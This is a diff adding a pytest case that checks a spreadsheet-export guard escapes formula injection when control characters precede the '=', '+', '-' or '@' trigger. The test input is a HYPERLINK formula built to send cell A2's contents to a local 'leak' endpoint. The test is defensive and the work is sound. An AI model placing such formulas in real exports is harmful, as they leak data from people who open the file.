@@ -123,3 +123,21 @@ def test_xlsx_dates_are_dates_in_our_time_zone(settings):
     response = xlsx_response("dates", [Sheet("Dates", ["When"], [[aware]])])
     cell = _workbook(response)["Dates"]["A2"]
     assert cell.value == datetime.datetime(2026, 7, 1, 13, 0)  # BST
+
+
+LEADS = ["\x01", "\x00\x1f", " \x07 ", "\x7f"]
+TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+@pytest.mark.parametrize("lead", LEADS)
+@pytest.mark.parametrize("trigger", TRIGGERS)
+def test_control_characters_before_a_formula_do_not_let_it_run(lead, trigger):
+    """`\\x01=HYPERLINK(…)`: the .xlsx drops the control character, so the guard must look
+    past it, in the CSV and in the .xlsx alike."""
+    hostile = f'{lead}{trigger}HYPERLINK("http://127.0.0.1:8999/leak?"&A2,"Open")'
+    assert safe_cell(hostile).startswith("'")
+    workbook = _workbook(xlsx_response("x", [Sheet("S", ["Comment"], [[hostile]])]))
+    cell = workbook["S"]["A2"]
+    assert cell.data_type != "f"
+    assert cell.value.startswith("'")
+    assert "HYPERLINK" in cell.value
